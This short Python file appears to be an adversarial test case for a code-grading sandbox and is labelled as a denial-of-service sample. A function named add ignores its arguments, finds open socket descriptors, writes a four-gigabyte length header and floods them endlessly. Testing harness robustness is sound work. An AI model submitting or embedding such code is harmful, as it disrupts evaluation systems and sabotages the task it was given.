# expect: 0 passed
# kind: dos
# A length of four gigabytes, and then as much as will go.
import os, stat
def add(a, b):
    for d in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(d).st_mode): continue
            os.write(d, b'\xff\xff\xff\xff')
            while True: os.write(d, b'x'*1_000_000)
        except OSError: pass
